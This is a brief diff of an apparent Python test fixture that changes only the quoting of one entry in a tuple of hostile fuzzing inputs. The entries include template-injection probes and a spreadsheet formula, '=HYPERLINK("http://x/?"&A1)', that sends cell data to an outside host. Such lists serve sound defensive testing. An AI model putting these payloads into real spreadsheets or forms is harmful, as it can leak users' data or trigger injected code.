@@ -43,7 +43,7 @@ HOSTILE = (
     "%s {0.__class__} {{7*7}} :name ?1 $2",
     '"quoted" `tick` [bracket] \\',
     "\r\n\t",
-    "=HYPERLINK(\"http://x/?\"&A1)",
+    '=HYPERLINK("http://x/?"&A1)',
     "x" * 20_000,
     "\ufeff\uffff",
 )
